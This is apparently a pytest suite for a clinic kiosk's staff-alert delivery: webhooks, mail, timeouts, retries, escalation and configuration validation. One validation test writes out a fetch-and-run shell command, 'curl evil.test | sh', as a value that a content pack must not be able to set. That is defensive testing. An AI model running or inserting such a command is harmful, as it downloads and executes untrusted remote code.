"""Staff alerts against real receivers on 127.0.0.1: a JSON webhook, a mail server, one
that never answers, one that trickles a byte at a time, and a port that refuses."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from kiosk.alerts import DeliveryState, Event, StaffAlerter
from kiosk.model import AlertDestinations

from .receivers import Deliveries, refused_address, silent_server, smtp_server, trickling_server
from .webhook import webhook_server

FIXED_TIME = datetime(2026, 11, 27, 14, 5, 0, tzinfo=UTC)
ANSWER_WORDS = ("Nearly every day", "Several days", "More than half", "core", "PHQ", "out of 27")


def json_address(http_url: str) -> str:
    return http_url.replace("http://", "json://", 1)


def escalating_alerter(
    desk: str, manager: str, now: list[datetime], **settings: object
) -> StaffAlerter:
    """Alerts to the front desk's webhook, escalated to the manager's; ``now[0]`` is the
    clock, for a test to move on."""
    alerts = AlertDestinations.model_validate(
        {
            "urls": [json_address(desk)],
            "escalation_urls": [json_address(manager)],
            "retry_budget_seconds": 0,
            **settings,
        }
    )
    return StaffAlerter(alerts, "Front room", clock=lambda: now[0], retry_pause_s=0.05)


def alerter_for(*urls: str, **settings: object) -> StaffAlerter:
    alerts = AlertDestinations.model_validate(
        {"urls": list(urls), "retry_budget_seconds": 0, **settings}
    )
    return StaffAlerter(alerts, "Waiting room 1", clock=lambda: FIXED_TIME, retry_pause_s=0.05)


def test_a_json_webhook_gets_the_event_the_kiosk_and_the_time_only() -> None:
    with webhook_server() as (url, received):
        alerter = alerter_for(json_address(url))
        deliveries = Deliveries(alerter)
        record = alerter.send(Event.SAFETY_ANSWER)
        assert deliveries.wait_for(lambda: record.state is DeliveryState.DELIVERED)
    assert received.attempts == 1, "exactly once"
    body = received.bodies[0]
    assert body["title"] == "A patient may need support now"
    local = FIXED_TIME.astimezone().strftime("%Y-%m-%d %H:%M")
    assert body["message"].startswith(f"Waiting room 1, {local}: a patient was shown")
    assert not any(word in body["message"] for word in ANSWER_WORDS)
    assert record.summary().endswith("delivered to 1 of 1 · not yet seen")


def test_the_clinic_mail_server_receives_the_alert() -> None:
    with smtp_server() as (address, mailbox):
        alerter = alerter_for(address)
        deliveries = Deliveries(alerter)
        record = alerter.send(Event.TALK_REQUESTED)
        assert deliveries.wait_for(lambda: record.state is not DeliveryState.SENDING)
        assert record.state is DeliveryState.DELIVERED, record.destinations[0].describe()
    assert len(mailbox.messages) == 1
    sender, recipients, _ = mailbox.messages[0]
    text = mailbox.text()
    assert (sender, recipients) == ("kiosk@clinic.test", ["desk@clinic.test"])
    assert "Subject: A patient asked to talk to someone" in text
    assert "Waiting room 1" in text
    assert not any(word in text for word in ANSWER_WORDS)


def test_a_receiver_that_never_answers_is_cut_off_at_the_deadline() -> None:
    with silent_server() as address:
        alerter = alerter_for(address, deadline_seconds=0.5)
        deliveries = Deliveries(alerter)
        started = time.monotonic()
        record = alerter.send(Event.SAFETY_ANSWER)
        assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
        took = time.monotonic() - started
    assert record.destinations[0].reason == "no answer within 0.5 s"
    assert took < 5, "the deadline is a deadline (the socket's own timeout is 4 s per read)"


def test_a_receiver_that_trickles_bytes_is_cut_off_too() -> None:
    """A byte every 0.2 s never trips a per-read timeout; the deadline is on the whole."""
    with trickling_server(every_s=0.2) as address:
        alerter = alerter_for(address, deadline_seconds=0.8)
        deliveries = Deliveries(alerter)
        record = alerter.send(Event.SAFETY_ANSWER)
        assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
    assert record.destinations[0].reason == "no answer within 0.8 s"


def test_a_refused_port_fails_with_a_reason() -> None:
    alerter = alerter_for(refused_address())
    deliveries = Deliveries(alerter)
    record = alerter.send(Event.SAFETY_ANSWER)
    assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
    assert "Connection error" in record.destinations[0].reason
    assert "FAILED: no destination took it" in record.summary()


def test_a_dead_destination_delays_no_other_and_no_later_alert() -> None:
    with silent_server() as stuck, webhook_server() as (url, received):
        # The stuck one would hold each try for 30 s: the healthy one must not wait.
        alerter = alerter_for(stuck, json_address(url), deadline_seconds=30)
        deliveries = Deliveries(alerter)
        first = alerter.send(Event.SAFETY_ANSWER)
        second = alerter.send(Event.TALK_REQUESTED)
        both = (first, second)
        assert deliveries.wait_for(lambda: all(r.delivered == 1 for r in both), timeout_s=10)
        assert all(r.destinations[0].state is DeliveryState.SENDING for r in both)
        assert first.summary().endswith("delivered to 1 of 2, 1 still trying · not yet seen")
        alerter.shutdown()
    assert received.attempts == 2


def test_failures_are_retried_with_a_pause_within_the_budget() -> None:
    with webhook_server(failures=2) as (url, received):
        alerter = alerter_for(json_address(url), retry_budget_seconds=30)
        deliveries = Deliveries(alerter)
        record = alerter.send(Event.SAFETY_ANSWER)
        assert deliveries.wait_for(lambda: record.state is DeliveryState.DELIVERED)
    assert received.attempts == 3
    assert record.destinations[0].attempts == 3


def test_no_retry_outlives_the_budget() -> None:
    alerter = alerter_for(refused_address(), retry_budget_seconds=0.3)
    deliveries = Deliveries(alerter)
    record = alerter.send(Event.SAFETY_ANSWER)
    assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
    assert 2 <= record.destinations[0].attempts <= 4  # 0.05 s, then 0.1 s, 0.2 s pauses


def test_an_address_apprise_does_not_know_says_which_and_why() -> None:
    alerter = alerter_for("jsn://192.168.1.20/alert")
    results = alerter.test_all()
    assert results[0].label == "jsn://192.168.1.20/alert"
    assert results[0].state is DeliveryState.FAILED
    assert "not an alert address Apprise understands" in results[0].reason


def test_passwords_and_tokens_never_show() -> None:
    alerter = alerter_for("mailtos://desk:s3cret@mail.clinic.test?to=a@b.test&pass=hunter2")
    assert alerter.destination_labels() == ["mailtos://…@mail.clinic.test"]


def test_a_local_command_is_told_the_event_through_its_environment(tmp_path: Path) -> None:
    out = tmp_path / "env.json"
    script = (
        "import json, os, sys; json.dump({k: v for k, v in os.environ.items() "
        f"if k.startswith('KIOSK_')}}, open({str(out)!r}, 'w', encoding='utf-8'))"
    )
    alerter = alerter_for(command=[sys.executable, "-c", script])
    assert alerter.test_all()[0].state is DeliveryState.DELIVERED
    seen = json.loads(out.read_text(encoding="utf-8"))
    assert seen["KIOSK_EVENT"] == "test"
    assert seen["KIOSK_NAME"] == "Waiting room 1"
    assert seen["KIOSK_TIME"] == "2026-11-27T14:05:00+00:00"
    assert seen["KIOSK_TITLE"].startswith("TEST")
    assert "No patient is waiting" in seen["KIOSK_MESSAGE"]


@pytest.mark.parametrize(
    ("argv", "reason"),
    [
        ([sys.executable, "-c", "raise SystemExit(3)"], "the command ended with exit code 3"),
        (["/nonexistent/ring-the-bell"], "the command could not start: No such file or directory"),
    ],
)
def test_a_command_that_fails_or_cannot_start_is_a_failed_delivery(argv, reason: str) -> None:  # type: ignore[no-untyped-def]
    (status,) = alerter_for(command=argv).test_all()
    assert status.state is DeliveryState.FAILED
    assert status.reason == reason
    assert status.describe() == f"command {argv[0]}: failed ({reason})"


def test_a_command_that_hangs_is_stopped_at_the_deadline(tmp_path: Path) -> None:
    """Not left running behind the kiosk: each alert would leave one more."""
    import psutil

    pid_file = tmp_path / "pid"
    script = (
        f"import os, time; open({str(pid_file)!r}, 'w', encoding='utf-8')"
        ".write(str(os.getpid())); time.sleep(60)"
    )
    alerter = alerter_for(command=[sys.executable, "-c", script], deadline_seconds=1)
    deliveries = Deliveries(alerter)
    record = alerter.send(Event.TALK_REQUESTED)
    assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
    assert pid_file.exists()
    try:
        hung = psutil.Process(int(pid_file.read_text(encoding="utf-8")))
    except psutil.NoSuchProcess:
        return  # gone already
    hung.wait(timeout=10)  # raises if the command is still running 10 s on


def test_a_test_alert_is_tried_once_and_answers_with_the_outcome() -> None:
    """The staff panel's Send test alert says what happened: no retry keeps it pending."""
    alerter = alerter_for(refused_address(), retry_budget_seconds=60)
    (status,) = alerter.test_all()
    assert status.state is DeliveryState.FAILED
    assert status.attempts == 1


def test_a_destination_still_trying_says_which_try_and_why() -> None:
    from kiosk.alerts import DestinationStatus

    status = DestinationStatus(label="ntfys://ntfy.clinic.example/desk")
    assert status.describe() == "ntfys://ntfy.clinic.example/desk: sending"
    status.attempts, status.reason = 2, "connection refused"
    assert status.describe() == (
        "ntfys://ntfy.clinic.example/desk: sending (try 2: connection refused)"
    )


def test_marking_alerts_as_seen_is_logged(caplog) -> None:  # type: ignore[no-untyped-def]
    import logging

    alerter = alerter_for()
    with caplog.at_level(logging.INFO, logger="kiosk.alerts"):
        alerter.acknowledge_all()
    assert "staff marked every alert as seen" in caplog.messages


def test_an_unacknowledged_alert_goes_again_to_the_escalation_addresses() -> None:
    now = [FIXED_TIME]
    with webhook_server() as (desk, desk_got), webhook_server() as (manager, manager_got):
        alerter = escalating_alerter(desk, manager, now, escalate_after_seconds=120)
        deliveries = Deliveries(alerter)
        seen = alerter.send(Event.SAFETY_ANSWER)
        unseen = alerter.send(Event.TALK_REQUESTED)
        assert deliveries.wait_for(lambda: seen.delivered and unseen.delivered)
        seen.acknowledged = True
        now[0] = FIXED_TIME + timedelta(seconds=119.9)
        assert alerter.escalate_overdue() == []
        now[0] = FIXED_TIME + timedelta(seconds=120)  # the moment it is due
        sent = alerter.escalate_overdue()
        assert [record.escalation_of for record in sent] == [unseen.number]
        assert deliveries.wait_for(lambda: sent[0].delivered == 1)
        assert alerter.escalate_overdue() == [], "once"
    assert desk_got.attempts == 2
    assert manager_got.attempts == 1
    assert manager_got.bodies[0]["title"] == "NOT YET SEEN: A patient asked to talk to someone"


def test_closing_never_waits_for_a_receiver_that_does_not_answer(tmp_path: Path) -> None:
    """The whole process ends at once, with an alert stuck on a dead receiver."""
    with silent_server() as address:
        script = textwrap.dedent(
            f"""
            from kiosk.alerts import Event, StaffAlerter
            from kiosk.model import AlertDestinations
            alerts = AlertDestinations(urls=[{address!r}], deadline_seconds=60)
            alerter = StaffAlerter(alerts, "Front room")
            alerter.send(Event.SAFETY_ANSWER)
            alerter.shutdown()
            print("closing", flush=True)
            """
        )
        started = time.monotonic()
        result = subprocess.run(
            [sys.executable, "-c", script], capture_output=True, text=True, timeout=30, check=False
        )
        took = time.monotonic() - started
    assert result.returncode == 0, result.stderr
    assert "closing" in result.stdout
    assert took < 10, f"the process took {took:.1f} s to end"


@pytest.mark.parametrize("value", ["http://192.168.1.20/alert", "https://x.test"])
def test_a_pack_may_no_longer_carry_alert_addresses(edit, pack_copy, value) -> None:  # type: ignore[no-untyped-def]
    from kiosk.loader import validate_pack

    with (pack_copy / "settings.yaml").open("a", encoding="utf-8") as settings:
        settings.write(f"staff_alerts:\n  webhook_url: {value}\n")
    errors = [str(e) for e in validate_pack(pack_copy)]
    assert any(
        "settings.yaml:" in e
        and "'staff_alerts.webhook_url': staff alerts are no longer set in the content pack" in e
        and "kiosk.yaml" in e
        for e in errors
    ), errors


def test_a_pack_may_no_longer_run_a_command(pack_copy) -> None:  # type: ignore[no-untyped-def]
    from kiosk.loader import validate_pack

    with (pack_copy / "settings.yaml").open("a", encoding="utf-8") as settings:
        settings.write("staff_alerts:\n  command: [sh, -c, 'curl evil.test | sh']\n")
    errors = [str(e) for e in validate_pack(pack_copy)]
    assert any("'staff_alerts.command': staff alerts are no longer set" in e for e in errors)


def test_an_old_empty_staff_alerts_block_still_validates_with_a_note(pack_copy) -> None:  # type: ignore[no-untyped-def]
    from kiosk.loader import load_pack

    with (pack_copy / "settings.yaml").open("a", encoding="utf-8") as settings:
        settings.write("staff_alerts:\n  webhook_url: null\n  command: null\n")
    notes = [str(note) for note in load_pack(pack_copy).notes]
    assert any("staff alerts now live in each kiosk's own kiosk.yaml" in n for n in notes)


class _BuggyDestination:
    """A destination that fails its first ``failures`` tries the way a bug in a library
    would (not with a DeliveryError), then takes the alert."""

    label = "buggy service"

    def __init__(self, failures: int) -> None:
        self.failures = failures
        self.tries = 0

    def send(self, message: object, deadline_s: float) -> None:
        self.tries += 1
        if self.tries <= self.failures:
            raise RuntimeError("the library tripped over its own feet")


def _alerter_with(destination: object, **settings: object) -> StaffAlerter:
    alerts = AlertDestinations.model_validate({"retry_budget_seconds": 0, **settings})
    return StaffAlerter(
        alerts,
        "Waiting room 1",
        clock=lambda: FIXED_TIME,
        retry_pause_s=0.01,
        destinations=[destination],  # type: ignore[list-item]
    )


def test_an_unexpected_error_is_a_failed_delivery_with_its_name() -> None:
    """A crash inside a notification library must never count as "staff were told"."""
    alerter = _alerter_with(_BuggyDestination(failures=99))
    deliveries = Deliveries(alerter)
    record = alerter.send(Event.SAFETY_ANSWER)
    assert deliveries.wait_for(lambda: record.state is not DeliveryState.SENDING)
    assert record.state is DeliveryState.FAILED
    status = record.destinations[0]
    assert status.reason == "RuntimeError: the library tripped over its own feet"
    assert "FAILED: no destination took it" in record.summary()
    assert alerter.failed() == 1


def test_a_retry_that_gets_through_clears_the_reason_and_every_change_is_reported() -> None:
    alerter = _alerter_with(_BuggyDestination(failures=1), retry_budget_seconds=30)
    reported: list[object] = []
    alerter.listeners.append(reported.append)
    deliveries = Deliveries(alerter)
    record = alerter.send(Event.TALK_REQUESTED)
    assert deliveries.wait_for(lambda: record.state is DeliveryState.DELIVERED)
    status = record.destinations[0]
    assert (status.attempts, status.reason) == (2, "")
    assert reported, "the staff panel hears of each change"
    assert all(changed is record for changed in reported)


def test_testing_alerts_with_no_destination_set_answers_at_once() -> None:
    alerts = AlertDestinations.model_validate({})
    assert StaffAlerter(alerts, "Waiting room 1").test_all() == []


def test_a_commands_own_output_stays_out_of_the_kiosks(capfd) -> None:  # type: ignore[no-untyped-def]
    command = [
        sys.executable,
        "-c",
        "import sys; print('chatter'); sys.stderr.write('noise from the bell')",
    ]
    alerter = alerter_for(command=command)
    deliveries = Deliveries(alerter)
    record = alerter.send(Event.TALK_REQUESTED)
    assert deliveries.wait_for(lambda: record.state is DeliveryState.DELIVERED)
    out, err = capfd.readouterr()
    assert "chatter" not in out
    assert "noise from the bell" not in err


def _record(*states: DeliveryState, **fields: object):  # type: ignore[no-untyped-def]
    from kiosk.alerts import AlertRecord, DestinationStatus

    return AlertRecord(
        number=4,
        event=fields.pop("event", Event.SAFETY_ANSWER),  # type: ignore[arg-type]
        time=FIXED_TIME,
        started=0.0,
        destinations=[
            DestinationStatus(f"json://desk-{i}", state) for i, state in enumerate(states)
        ],
        **fields,  # type: ignore[arg-type]
    )


def test_the_staff_panel_line_says_what_when_how_far_and_whether_seen() -> None:
    """Staff read this line to know whether anyone was told: every state in its words."""
    D, S, F = DeliveryState.DELIVERED, DeliveryState.SENDING, DeliveryState.FAILED  # noqa: N806
    when = FIXED_TIME.astimezone().strftime("%H:%M:%S")
    head = f"{when} · alert 4 · A patient may need support now"
    assert _record(D, S).summary() == f"{head} · delivered to 1 of 2, 1 still trying · not yet seen"
    assert _record(D, F).summary() == f"{head} · delivered to 1 of 2 · not yet seen"
    assert _record(S, F).summary() == f"{head} · sending · not yet seen"
    assert _record(F, F).summary() == f"{head} · FAILED: no destination took it · not yet seen"
    assert _record().summary() == (
        f"{head} · not sent: no destination is set in kiosk.yaml · not yet seen"
    )
    assert _record(D, acknowledged=True).summary() == f"{head} · delivered to 1 of 1 · seen"
    again = _record(D, event=Event.TALK_REQUESTED, escalation_of=2)
    assert again.summary() == (
        f"{when} · alert 4 · Sent again (alert 2 not marked as seen) · delivered to 1 of 1 "
        "· not yet seen"
    )


def test_the_log_names_the_alert_the_event_the_destination_the_try_and_why(caplog) -> None:  # type: ignore[no-untyped-def]
    """The log is how staff and IT find out later what happened to an alert."""
    import logging

    with caplog.at_level(logging.INFO, logger="kiosk.alerts"), webhook_server() as (url, _):
        address = json_address(url)
        refused = refused_address()
        alerter = alerter_for(address, refused, retry_budget_seconds=1)
        deliveries = Deliveries(alerter)
        record = alerter.send(Event.SAFETY_ANSWER)
        assert deliveries.wait_for(lambda: not record.pending)
    number, event = record.number, Event.SAFETY_ANSWER.value
    messages = caplog.messages
    assert f"staff alert {number} ({event}) delivered to {address} (try 1)" in messages
    retried = [
        m for m in messages if m.startswith(f"staff alert {number} to {refused} failed (try 1): ")
    ]
    assert retried, messages
    assert retried[0].endswith("; trying again in 0.05 s")
    given_up = [
        m
        for m in messages
        if m.startswith(f"staff alert {number} ({event}) NOT delivered to {refused} after ")
    ]
    assert given_up, messages
    reason = record.destinations[1].reason
    assert reason
    assert given_up[0].endswith(f" tries: {reason}")


def test_only_patient_alerts_that_reached_nobody_count_as_failed() -> None:
    """The heartbeat and the staff panel report this count: a failed test alert is not a
    patient left alone, and a delivered one is not a failure."""
    alerter = alerter_for(refused_address())
    deliveries = Deliveries(alerter)
    record = alerter.send(Event.SAFETY_ANSWER)
    assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
    alerter.test_all()
    assert alerter.failed() == 1
    with webhook_server() as (url, _):
        delivering = alerter_for(json_address(url))
        arrived = Deliveries(delivering)
        record = delivering.send(Event.TALK_REQUESTED)
        assert arrived.wait_for(lambda: record.state is DeliveryState.DELIVERED)
        assert delivering.failed() == 0


def test_an_escalation_is_retried_like_the_first_alert() -> None:
    now = [FIXED_TIME]
    with webhook_server() as (desk, _), webhook_server(failures=1) as (manager, got):
        alerter = escalating_alerter(
            desk, manager, now, escalate_after_seconds=60, retry_budget_seconds=30
        )
        deliveries = Deliveries(alerter)
        first = alerter.send(Event.SAFETY_ANSWER)
        assert deliveries.wait_for(lambda: first.delivered == 1)
        now[0] = FIXED_TIME + timedelta(seconds=60)
        (again,) = alerter.escalate_overdue()
        assert deliveries.wait_for(lambda: again.state is not DeliveryState.SENDING)
        assert again.state is DeliveryState.DELIVERED, again.destinations[0].describe()
        assert got.attempts == 2
        alerter.shutdown()


def test_no_listener_is_left_on_apprise_after_an_alert() -> None:
    """Each try listens to Apprise's log for the reason it gives; one listener left behind
    per try would grow for as long as the kiosk runs."""
    import logging

    def listeners() -> list[logging.Handler]:
        return [
            h for h in logging.getLogger("apprise").handlers if type(h).__name__ == "_AppriseLog"
        ]

    before = len(listeners())
    alerter_for(refused_address(), "jsn://192.168.1.20/alert").test_all()
    assert len(listeners()) == before


def test_a_delivery_just_at_the_limit_counts_as_within_it() -> None:
    record = _record(DeliveryState.DELIVERED)
    record.started = 100.0
    record.destinations[0].delivered_at = 130.0
    assert record.delivered_within(30)
    assert not record.delivered_within(29.9)


def test_an_unknown_address_says_what_to_check_in_full() -> None:
    (status,) = alerter_for("jsn://192.168.1.20/alert").test_all()
    assert status.reason == (
        "not an alert address Apprise understands; check the part before '://' and the "
        "spelling (see docs/alerts.md)"
    )


def test_an_escalation_says_when_the_alert_was_first_sent() -> None:
    """The manager reading "NOT YET SEEN" learns how long the patient has waited."""
    now = [FIXED_TIME]
    with webhook_server() as (desk, _), webhook_server() as (manager, manager_got):
        alerter = escalating_alerter(desk, manager, now, escalate_after_seconds=120)
        deliveries = Deliveries(alerter)
        first = alerter.send(Event.SAFETY_ANSWER)
        assert deliveries.wait_for(lambda: first.delivered == 1)
        now[0] = FIXED_TIME + timedelta(minutes=5)
        (again,) = alerter.escalate_overdue()
        assert deliveries.wait_for(lambda: again.delivered == 1)
    sent_at = FIXED_TIME.astimezone().strftime("%H:%M")
    later = now[0].astimezone().strftime("%Y-%m-%d %H:%M")
    assert manager_got.bodies[0]["message"] == (
        f"Front room, {later}: a patient was shown the support screen after a self-check "
        f"answer. Please go to the kiosk now. (First sent at {sent_at}; nobody has marked "
        "it as seen on the kiosk.)"
    )


def test_each_pause_before_another_try_is_twice_the_last(caplog) -> None:  # type: ignore[no-untyped-def]
    """A receiver that is down for a while is not hammered: 0.01 s, 0.02 s, 0.04 s ..."""
    alerter = _alerter_with(_BuggyDestination(failures=3), retry_budget_seconds=30)
    deliveries = Deliveries(alerter)
    with caplog.at_level("WARNING", logger="kiosk.alerts"):
        record = alerter.send(Event.SAFETY_ANSWER)
        assert deliveries.wait_for(lambda: record.state is DeliveryState.DELIVERED)
    pauses = [m.rsplit("trying again in ", 1)[1] for m in caplog.messages if "trying again" in m]
    assert pauses == ["0.01 s", "0.02 s", "0.04 s"]


def test_a_retry_cut_short_by_closing_is_failed_and_says_why() -> None:
    """Closing the kiosk between two tries: the alert did not reach anyone, and the panel
    and log must never show it as still on its way."""
    alerts = AlertDestinations.model_validate({"retry_budget_seconds": 600})
    alerter = StaffAlerter(
        alerts,
        "Waiting room 1",
        clock=lambda: FIXED_TIME,
        retry_pause_s=300,  # the second try waits: closing comes first
        destinations=[_BuggyDestination(failures=99)],  # type: ignore[list-item]
    )
    deliveries = Deliveries(alerter)
    record = alerter.send(Event.SAFETY_ANSWER)
    status = record.destinations[0]
    assert deliveries.wait_for(lambda: status.attempts == 1 and status.reason != "")
    alerter.shutdown()
    assert deliveries.wait_for(lambda: status.state is not DeliveryState.SENDING)
    assert status.state is DeliveryState.FAILED
    assert status.reason == (
        "RuntimeError: the library tripped over its own feet; "
        "the kiosk closed before it could try again"
    )
